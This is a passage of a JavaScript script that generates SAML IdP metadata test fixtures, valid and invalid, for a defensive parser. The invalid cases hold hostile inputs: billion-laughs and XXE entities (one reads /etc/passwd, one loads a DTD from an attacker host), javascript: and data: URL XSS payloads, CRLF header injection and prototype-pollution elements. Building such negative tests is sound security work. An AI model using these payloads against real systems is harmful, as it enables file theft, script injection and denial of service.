    render({ entityId, ssoUrl }) {
      return [
        `<?xml version="1.0"?>`,
        `<EntityDescriptor xmlns="${NS_MD}" entityID="${entityId}">`,
        `  <IDPSSODescriptor xmlns:ds="${NS_DS}" protocolSupportEnumeration="${PROTOCOL}">`,
        `    <KeyDescriptor use="signing">`,
        `      <ds:KeyInfo xmlns:ds="${NS_DS}">`,
        `        <ds:X509Data>`,
        `          <ds:X509Certificate>${b64(EXPIRED)}</ds:X509Certificate>`,
        `        </ds:X509Data>`,
        `      </ds:KeyInfo>`,
        `    </KeyDescriptor>`,
        `    <SingleLogoutService Binding="${B.redirect}" Location="https://example.onelogin.example.com/trust/saml2/http-redirect/slo/000001"/>`,
        `    <NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</NameIDFormat>`,
        `    <SingleSignOnService Binding="${B.redirect}" Location="${ssoUrl}"/>`,
        `    <SingleSignOnService Binding="${B.post}" Location="${ssoUrl}"/>`,
        `    <SingleSignOnService Binding="${B.soap}" Location="https://example.onelogin.example.com/trust/saml2/soap/sso/000001"/>`,
        `  </IDPSSODescriptor>`,
        `  <ContactPerson contactType="technical">`,
        `    <SurName>Support</SurName>`,
        `    <EmailAddress>support@onelogin.example.com</EmailAddress>`,
        `  </ContactPerson>`,
        `</EntityDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'pingone-attributes.xml',
    shape: 'PingOne: md: prefix, Location before Binding, certificate on its own indented line, POST before Redirect, a long saml:Attribute list inside the IdP role',
    expect: { entityId: 'https://auth.pingone.example.com/aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee', ssoUrl: 'https://auth.pingone.example.com/aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee/saml20/idp/sso', ssoBinding: 'redirect', certificates: [IDP] },
    render({ entityId, ssoUrl }) {
      const attrs = ['user.externalId', 'user.accountId', 'user.email', 'user.name.given', 'user.name.family', 'user.username', 'user.id', 'user.lifecycle.status']
      return [
        `<?xml version="1.0" encoding="UTF-8"?>`,
        `<md:EntityDescriptor entityID="${entityId}" ID="PingExample0000000000000000" xmlns:md="${NS_MD}">`,
        `  <md:IDPSSODescriptor protocolSupportEnumeration="${PROTOCOL}">`,
        `    <md:KeyDescriptor use="signing">`,
        `      <ds:KeyInfo xmlns:ds="${NS_DS}">`,
        `        <ds:X509Data>`,
        `          <ds:X509Certificate>`,
        `            ${b64(IDP)}</ds:X509Certificate>`,
        `        </ds:X509Data>`,
        `      </ds:KeyInfo>`,
        `    </md:KeyDescriptor>`,
        `    <md:SingleLogoutService Location="${ssoUrl.replace(/sso$/, 'slo')}" Binding="${B.redirect}"/>`,
        `    <md:SingleLogoutService Location="${ssoUrl.replace(/sso$/, 'slo')}" Binding="${B.post}"/>`,
        `    <md:SingleSignOnService Location="${ssoUrl}" Binding="${B.post}"/>`,
        `    <md:SingleSignOnService Location="${ssoUrl}" Binding="${B.redirect}"/>`,
        ...attrs.map((a) => `    <saml:Attribute NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic" Name="${a}" xmlns:saml="${NS_SAML}"/>`),
        `  </md:IDPSSODescriptor>`,
        `</md:EntityDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'jumpcloud-post-only.xml',
    shape: 'JumpCloud: an entityID that is not a URI (it has spaces), attributes split across lines, certificate on its own indented line, HTTP-POST the only SSO binding',
    expect: { entityId: 'Example IdP Entity ID', ssoUrl: 'https://sso.jumpcloud.example.com/saml2/example-app', ssoBinding: 'post', certificates: [IDP] },
    render({ entityId, ssoUrl }) {
      return [
        `<?xml version="1.0" encoding="UTF-8"?>`,
        `<md:EntityDescriptor xmlns:md="${NS_MD}" entityID="${entityId}">`,
        `    <md:IDPSSODescriptor WantAuthnRequestsSigned="false"`,
        `                         protocolSupportEnumeration="${PROTOCOL}">`,
        `        <md:KeyDescriptor use="signing">`,
        `            <ds:KeyInfo xmlns:ds="${NS_DS}">`,
        `                <ds:X509Data>`,
        `                    <ds:X509Certificate>`,
        `                        ${b64(IDP)}`,
        `                    </ds:X509Certificate>`,
        `                </ds:X509Data>`,
        `            </ds:KeyInfo>`,
        `        </md:KeyDescriptor>`,
        `        <md:NameIDFormat>urn:oasis:names:tc:SAML:1.0:nameid-format:unspecified</md:NameIDFormat>`,
        `        <md:SingleSignOnService Binding="${B.post}"`,
        `                                Location="${ssoUrl}"/>`,
        `    </md:IDPSSODescriptor>`,
        `</md:EntityDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'auth0-comment-before-root.xml',
    shape: 'Auth0: a comment before the root and no XML declaration, no prefixes at all (xmldsig and assertion as default namespaces), tab-indented certificate on its own line, NameIDFormat padded with whitespace',
    expect: { entityId: 'urn:example-tenant.auth0.example.com', ssoUrl: 'https://example-tenant.auth0.example.com/samlp/ExampleClientId000000000000000', ssoBinding: 'redirect', certificates: [IDP] },
    render({ entityId, ssoUrl }) {
      return [
        `<!-- For SLO -->`,
        `<EntityDescriptor entityID="${entityId}" xmlns="${NS_MD}">`,
        `\t<IDPSSODescriptor protocolSupportEnumeration="${PROTOCOL}">`,
        `\t\t<KeyDescriptor use="signing">`,
        `\t\t\t<KeyInfo xmlns="${NS_DS}">`,
        `\t\t\t\t<X509Data>`,
        `\t\t\t\t\t<X509Certificate>`,
        `\t\t\t\t\t\t${b64(IDP)}</X509Certificate>`,
        `\t\t\t\t</X509Data>`,
        `\t\t\t</KeyInfo>`,
        `\t\t</KeyDescriptor>`,
        `\t\t<SingleLogoutService Binding="${B.redirect}" Location="https://example-tenant.auth0.example.com/samlp/logout" />`,
        `\t\t<NameIDFormat>`,
        `\t\t\turn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress`,
        `\t\t</NameIDFormat>`,
        `\t\t<SingleSignOnService Binding="${B.redirect}" Location="${ssoUrl}" />`,
        `\t\t<SingleSignOnService Binding="${B.post}" Location="${ssoUrl}" />`,
        `\t\t<Attribute Name="http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri" FriendlyName="E-Mail Address" xmlns="${NS_SAML}" />`,
        `\t</IDPSSODescriptor>`,
        `</EntityDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'post-simplesign-before-post.xml',
    shape: 'POST-SimpleSign listed before HTTP-POST and no Redirect: SimpleSign is neither binding we speak, so the POST endpoint is chosen',
    expect: { entityId: 'https://idp.simplesign.example.com/metadata', ssoUrl: 'https://idp.simplesign.example.com/sso/post', ssoBinding: 'post', certificates: [IDP] },
    render({ entityId, ssoUrl }) {
      return [
        `<?xml version="1.0" encoding="UTF-8"?>`,
        `<md:EntityDescriptor xmlns:md="${NS_MD}" xmlns:ds="${NS_DS}" entityID="${entityId}">`,
        `  <md:IDPSSODescriptor protocolSupportEnumeration="${PROTOCOL}">`,
        `    <md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${b64(IDP)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`,
        `    <md:SingleSignOnService Binding="${B.simpleSign}" Location="https://idp.simplesign.example.com/sso/simplesign"/>`,
        `    <md:SingleSignOnService Binding="${B.soap}" Location="https://idp.simplesign.example.com/sso/soap"/>`,
        `    <md:SingleSignOnService Binding="${B.post}" Location="${ssoUrl}"/>`,
        `  </md:IDPSSODescriptor>`,
        `</md:EntityDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'simplesign-and-soap-only.xml',
    shape: 'SSO offered only over POST-SimpleSign and SOAP: the metadata is valid, but there is no SSO URL we can use (null, and the service keeps what it had)',
    expect: { entityId: 'https://idp.ecp-only.example.com/metadata', ssoUrl: null, ssoBinding: null, certificates: [IDP] },
    render({ entityId }) {
      return [
        `<?xml version="1.0" encoding="UTF-8"?>`,
        `<md:EntityDescriptor xmlns:md="${NS_MD}" xmlns:ds="${NS_DS}" entityID="${entityId}">`,
        `  <md:IDPSSODescriptor protocolSupportEnumeration="${PROTOCOL}">`,
        `    <md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${b64(IDP)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`,
        `    <md:SingleSignOnService Binding="${B.simpleSign}" Location="https://idp.ecp-only.example.com/sso/simplesign"/>`,
        `    <md:SingleSignOnService Binding="${B.soap}" Location="https://idp.ecp-only.example.com/sso/ecp"/>`,
        `  </md:IDPSSODescriptor>`,
        `</md:EntityDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'encryption-key-only.xml',
    shape: 'The IdP role publishes only an encryption key: it is never a signing certificate, so none are extracted',
    expect: { entityId: 'https://idp.encryption-only.example.com/metadata', ssoUrl: 'https://idp.encryption-only.example.com/sso', ssoBinding: 'redirect', certificates: [] },
    render({ entityId, ssoUrl }) {
      return [
        `<?xml version="1.0" encoding="UTF-8"?>`,
        `<md:EntityDescriptor xmlns:md="${NS_MD}" xmlns:ds="${NS_DS}" entityID="${entityId}">`,
        `  <md:IDPSSODescriptor protocolSupportEnumeration="${PROTOCOL}">`,
        `    <md:KeyDescriptor use="encryption"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${b64(IDP)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>`,
        `      <md:EncryptionMethod Algorithm="http://www.w3.org/2009/xmlenc11#aes256-gcm"/>`,
        `    </md:KeyDescriptor>`,
        `    <md:SingleSignOnService Binding="${B.redirect}" Location="${ssoUrl}"/>`,
        `  </md:IDPSSODescriptor>`,
        `</md:EntityDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'hostile-sso-beside-valid.xml',
    shape: 'An HTTP-Redirect service whose Location is a javascript: URL, before an HTTP-POST one with a valid URL: the hostile service is skipped like an unknown binding, and the POST one is used',
    expect: { entityId: 'https://idp.hostile-redirect.example.com/metadata', ssoUrl: 'https://idp.hostile-redirect.example.com/sso/post', ssoBinding: 'post', certificates: [IDP] },
    render: ({ entityId, ssoUrl }) =>
      plainIdp({
        entityAttr: ` entityID="${entityId}"`,
        ssoXml: `    <md:SingleSignOnService Binding="${B.redirect}" Location="javascript:alert(document.domain)//"/>\n    <md:SingleSignOnService Binding="${B.post}" Location="${ssoUrl}"/>`,
      }),
  },
  {
    file: 'escaped-urls.xml',
    shape: 'Query strings written with &amp; and character references in entityID and Location, as XML requires; the parser must hand back the decoded URLs (the SSO URL normalised, as new URL(x).href writes it)',
    expect: { entityId: 'https://idp.escaped.example.com/metadata?tenant=acme&app=crm', ssoUrl: 'https://idp.escaped.example.com/sso?tenant=acme&app=crm&x=%3C1%3E', ssoBinding: 'redirect', certificates: [IDP] },
    render() {
      return [
        `<?xml version="1.0" encoding="UTF-8"?>`,
        `<md:EntityDescriptor xmlns:md="${NS_MD}" xmlns:ds="${NS_DS}" entityID="https://idp.escaped.example.com/metadata?tenant=acme&amp;app=crm">`,
        `  <md:IDPSSODescriptor protocolSupportEnumeration="${PROTOCOL}">`,
        `    <md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${b64(IDP)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`,
        `    <md:SingleSignOnService Binding="${B.redirect}" Location="https://idp.escaped.example.com/sso?tenant=acme&#38;app=crm&#x26;x=&lt;1&gt;"/>`,
        `  </md:IDPSSODescriptor>`,
        `</md:EntityDescriptor>`,
        ``,
      ].join('\n')
    },
  },
]

// --- hostile and broken inputs --------------------------------------------------------------------

/** A small, otherwise valid IdP document, for the broken variants below. */
function plainIdp({ entityAttr = ' entityID="https://idp.example.com/metadata"', keys = null, sso = true, ssoXml = null, decl = true } = {}) {
  const keyXml = keys ?? `<md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${b64(IDP)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`
  return [
    ...(decl ? [`<?xml version="1.0" encoding="UTF-8"?>`] : []),
    `<md:EntityDescriptor xmlns:md="${NS_MD}" xmlns:ds="${NS_DS}"${entityAttr}>`,
    `  <md:IDPSSODescriptor protocolSupportEnumeration="${PROTOCOL}">`,
    `    ${keyXml}`,
    `    <md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</md:NameIDFormat>`,
    ...(sso ? [ssoXml ?? `    <md:SingleSignOnService Binding="${B.redirect}" Location="https://idp.example.com/sso"/>`] : []),
    `  </md:IDPSSODescriptor>`,
    `</md:EntityDescriptor>`,
    ``,
  ].join('\n')
}
const certKey = (value) => `<md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${value}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`
const der = (file) => Buffer.from(b64(file), 'base64')

const INVALID = [
  {
    file: 'billion-laughs.xml',
    reason: 'dtd_forbidden',
    shape: 'internal entities that expand exponentially (billion laughs), used in entityID',
    render() {
      const ents = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)]
      return plainIdp({ entityAttr: ' entityID="&lol9;"' }).replace('<md:EntityDescriptor', `<!DOCTYPE md:EntityDescriptor [\n  ${ents.join('\n  ')}\n]>\n<md:EntityDescriptor`)
    },
  },
  {
    file: 'xxe-system-file.xml',
    reason: 'dtd_forbidden',
    shape: 'external entity (XXE) reading file:///etc/passwd into entityID',
    render() {
      return plainIdp({ entityAttr: ' entityID="https://idp.example.com/&xxe;"' }).replace('<md:EntityDescriptor', `<!DOCTYPE md:EntityDescriptor [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<md:EntityDescriptor`)
    },
  },
  {
    file: 'parameter-entity.xml',
    reason: 'dtd_forbidden',
    shape: 'parameter entity pulling an external DTD (out-of-band XXE)',
    render() {
      return plainIdp().replace('<md:EntityDescriptor', `<!DOCTYPE md:EntityDescriptor [\n  <!ENTITY % remote SYSTEM "http://attacker.example.net/evil.dtd">\n  %remote;\n]>\n<md:EntityDescriptor`)
    },
  },
  {
    file: 'doctype-after-bom-and-comment.xml',
    reason: 'dtd_forbidden',
    shape: 'a doctype with an external subset, hidden after a byte order mark and a comment',
    render() {
      return '\uFEFF' + plainIdp({ decl: false }).replace('<md:EntityDescriptor', `<!-- metadata -->\n<!DOCTYPE md:EntityDescriptor SYSTEM "http://attacker.example.net/metadata.dtd">\n<md:EntityDescriptor`)
    },
  },
  {
    file: 'too-deep.xml',
    reason: 'too_deep',
    shape: `10,000 nested elements inside Extensions (the limit is MAX_XML_DEPTH = ${MAX_XML_DEPTH})`,
    render() {
      const n = 10_000
      return plainIdp().replace('<md:NameIDFormat>', `<md:Extensions>${'<x>'.repeat(n)}${'</x>'.repeat(n)}</md:Extensions>\n    <md:NameIDFormat>`)
    },
  },
  {
    file: 'too-large.xml',
    reason: 'too_large',
    shape: `otherwise valid metadata just over MAX_METADATA_BYTES (${MAX_METADATA_BYTES}) because of a long attribute list`,
    render() {
      const doc = plainIdp()
      const attr = (i) => `    <saml:Attribute xmlns:saml="${NS_SAML}" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic" Name="user.custom.attribute.${String(i).padStart(6, '0')}"/>\n`
      const lines = []
      let size = Buffer.byteLength(doc)
      for (let i = 0; size <= MAX_METADATA_BYTES + 1024; i++) {
        const line = attr(i)
        lines.push(line)
        size += Buffer.byteLength(line)
      }
      return doc.replace('  </md:IDPSSODescriptor>', `${lines.join('')}  </md:IDPSSODescriptor>`)
    },
  },
  {
    file: 'proto-pollution.xml',
    reason: 'not_xml',
    shape: 'elements named __proto__ and constructor in Extensions, aimed at the object tree the parser builds',
    render() {
      return plainIdp().replace('<md:NameIDFormat>', `<md:Extensions><__proto__><polluted>yes</polluted></__proto__><constructor><prototype><polluted>yes</polluted></prototype></constructor></md:Extensions>\n    <md:NameIDFormat>`)
    },
  },
  {
    file: 'not-xml.xml',
    reason: 'not_xml',
    shape: 'a JSON error body where metadata was expected',
    render: () => '{"error":"not_found","message":"No metadata for this application"}\n',
  },
  {
    file: 'html-page.xml',
    reason: 'not_xml',
    shape: 'an HTML sign-in page (what a metadata URL behind a login returns), with void elements that are not XML',
    render: () => '<html>\n<head><meta charset="utf-8"><title>Sign in</title></head>\n<body><form method="post"><input name="user"><br></form></body>\n</html>\n',
  },
  {
    file: 'truncated.xml',
    reason: 'not_xml',
    shape: 'a valid document cut off in the middle of the certificate (an interrupted download)',
    render() {
      const doc = plainIdp()
      return doc.slice(0, doc.indexOf('<ds:X509Certificate>') + 300)
    },
  },
  {
    file: 'two-roots.xml',
    reason: 'not_xml',
    shape: 'a decoy self-closing EntityDescriptor root followed by the real one (not well-formed: a document has one root)',
    render() {
      const decoy = `<md:EntityDescriptor xmlns:md="${NS_MD}" entityID="https://decoy.example.net/metadata"/>`
      return plainIdp().replace('<md:EntityDescriptor', `${decoy}\n<md:EntityDescriptor`)
    },
  },
  {
    file: 'empty.xml',
    reason: 'not_xml',
    shape: 'an empty body',
    render: () => '',
  },
  {
    file: 'saml-response.xml',
    reason: 'not_metadata',
    shape: 'a SAML Response pasted where metadata belongs',
    render() {
      return [
        `<?xml version="1.0" encoding="UTF-8"?>`,
        `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="${NS_SAML}" ID="_resp1" Version="2.0" IssueInstant="2026-01-01T00:00:00Z" Destination="https://sp.example.com/acs">`,
        `  <saml:Issuer>https://idp.example.com/metadata</saml:Issuer>`,
        `  <samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>`,
        `  <saml:Assertion ID="_a1" Version="2.0" IssueInstant="2026-01-01T00:00:00Z">`,
        `    <saml:Issuer>https://idp.example.com/metadata</saml:Issuer>`,
        `    <saml:Subject><saml:NameID>user@example.com</saml:NameID></saml:Subject>`,
        `  </saml:Assertion>`,
        `</samlp:Response>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'sp-metadata.xml',
    reason: 'not_metadata',
    shape: 'SP metadata (our own, or another SP\'s) pasted where IdP metadata belongs: no IDPSSODescriptor',
    render() {
      return [
        `<?xml version="1.0" encoding="UTF-8"?>`,
        `<md:EntityDescriptor xmlns:md="${NS_MD}" xmlns:ds="${NS_DS}" entityID="https://sp.example.com/saml/metadata">`,
        `  <md:SPSSODescriptor AuthnRequestsSigned="true" protocolSupportEnumeration="${PROTOCOL}">`,
        `    ${certKey(b64(SP))}`,
        `    <md:AssertionConsumerService Binding="${B.post}" Location="https://sp.example.com/saml/acs" index="0"/>`,
        `  </md:SPSSODescriptor>`,
        `</md:EntityDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'empty-entities.xml',
    reason: 'not_metadata',
    shape: 'an EntitiesDescriptor with no entities in it',
    render: () => `<?xml version="1.0"?>\n<EntitiesDescriptor xmlns="${NS_MD}" Name="urn:example:empty"/>\n`,
  },
  {
    file: 'missing-entity-id.xml',
    reason: 'missing_entity_id',
    shape: 'an EntityDescriptor without entityID',
    render: () => plainIdp({ entityAttr: '' }),
  },
  {
    file: 'blank-entity-id.xml',
    reason: 'missing_entity_id',
    shape: 'an entityID that is only whitespace',
    render: () => plainIdp({ entityAttr: ' entityID="  \t "' }),
  },
  {
    file: 'idp-without-sso.xml',
    reason: 'missing_sso_url',
    shape: 'an IDPSSODescriptor with no SingleSignOnService at all (the schema requires at least one)',
    render: () => plainIdp({ sso: false }),
  },
  {
    file: 'sso-javascript-url.xml',
    reason: 'invalid_sso_url',
    shape: 'an HTTP-POST SingleSignOnService whose Location is a javascript: URL (the auto-post form would run it on our origin)',
    render: () => plainIdp({ ssoXml: `    <md:SingleSignOnService Binding="${B.post}" Location="javascript:alert(document.domain)//"/>` }),
  },
  {
    file: 'sso-crlf-url.xml',
    reason: 'invalid_sso_url',
    shape: 'an HTTP-Redirect Location with CR/LF written as character references inside it (a header injection once it is a Location header)',
    render: () => plainIdp({ ssoXml: `    <md:SingleSignOnService Binding="${B.redirect}" Location="https://idp.example.com/sso&#13;&#10;Set-Cookie: x=1"/>` }),
  },
  {
    file: 'sso-every-url-hostile.xml',
    reason: 'invalid_sso_url',
    shape: 'HTTP-Redirect with a leading-space JAVASCRIPT: URL and HTTP-POST with a DATA: URL: no SSO service is usable, so the document names no SSO URL',
    render: () =>
      plainIdp({
        ssoXml: `    <md:SingleSignOnService Binding="${B.redirect}" Location="&#9;JAVASCRIPT:alert(1)"/>\n    <md:SingleSignOnService Binding="${B.post}" Location="DATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>`,
      }),
  },
  {
    file: 'cert-not-base64.xml',
    reason: 'invalid_certificate',
    shape: 'a template placeholder where the signing certificate belongs',
    render: () => plainIdp({ keys: certKey('REPLACE_WITH_YOUR_IDP_CERTIFICATE') }),
  },
  {
    file: 'cert-base64-not-x509.xml',
    reason: 'invalid_certificate',
    shape: 'base64 of text, not of a DER certificate',
    render: () => plainIdp({ keys: certKey(Buffer.from('This is not a certificate. '.repeat(8)).toString('base64')) }),
  },
  {
    file: 'cert-is-public-key.xml',
    reason: 'invalid_certificate',
    shape: 'valid DER, but a SubjectPublicKeyInfo (a bare public key) rather than an X.509 certificate',
    render: () => plainIdp({ keys: certKey(createPublicKey(pem(IDP)).export({ type: 'spki', format: 'der' }).toString('base64')) }),
  },
  {
    file: 'cert-trailing-garbage.xml',
    reason: 'invalid_certificate',
    shape: 'a real certificate with extra bytes after its DER body',
    render: () => plainIdp({ keys: certKey(Buffer.concat([der(IDP), Buffer.from('GARBAGE!')]).toString('base64')) }),
  },
  {
    file: 'cert-truncated.xml',
    reason: 'invalid_certificate',
    shape: 'a real certificate cut short (its DER length says more bytes follow)',
    render: () => plainIdp({ keys: certKey(der(IDP).subarray(0, 600).toString('base64')) }),
  },
  {
    file: 'cert-invalid-beside-valid.xml',
    reason: 'invalid_certificate',
    shape: 'a valid signing certificate followed by a broken one in a second signing KeyDescriptor: one bad signing key refuses the document',
    render: () => plainIdp({ keys: `${certKey(b64(IDP))}\n    ${certKey(b64(ROLLOVER).slice(0, -40))}` }),
  },
]

// --- write ------------------------------------------------------------------------------------------

rmSync(outDir, { recursive: true, force: true })
mkdirSync(invalidDir, { recursive: true })

for (const f of VALID) writeFileSync(path.join(outDir, f.file), f.render(f.expect))
for (const f of INVALID) writeFileSync(path.join(invalidDir, f.file), f.render())

const certificates = Object.fromEntries(
  CERT_FILES.map((file) => {
    const x = new X509Certificate(pem(file))
    return [file, { issuedAt: Date.parse(x.validFrom), expiresAt: Date.parse(x.validTo) }]
  }),
)
const expected = {
  $comment: 'Generated by scripts/make-metadata-fixtures.mjs. certificates: validity as OpenSSL reads it (epoch ms). valid: what parseIdpMetadata must return. invalid: the failure.reason each file under invalid/ must get.',
  certificates,
  valid: VALID.map(({ file, shape, expect }) => ({ file, shape, ...expect })),
  invalid: INVALID.map(({ file, shape, reason }) => ({ file, shape, reason })),
}
writeFileSync(path.join(outDir, 'expected.json'), `${JSON.stringify(expected, null, 2)}\n`)
console.log(`wrote ${VALID.length} valid and ${INVALID.length} invalid fixtures, and expected.json, to ${path.relative(root, outDir)}`)
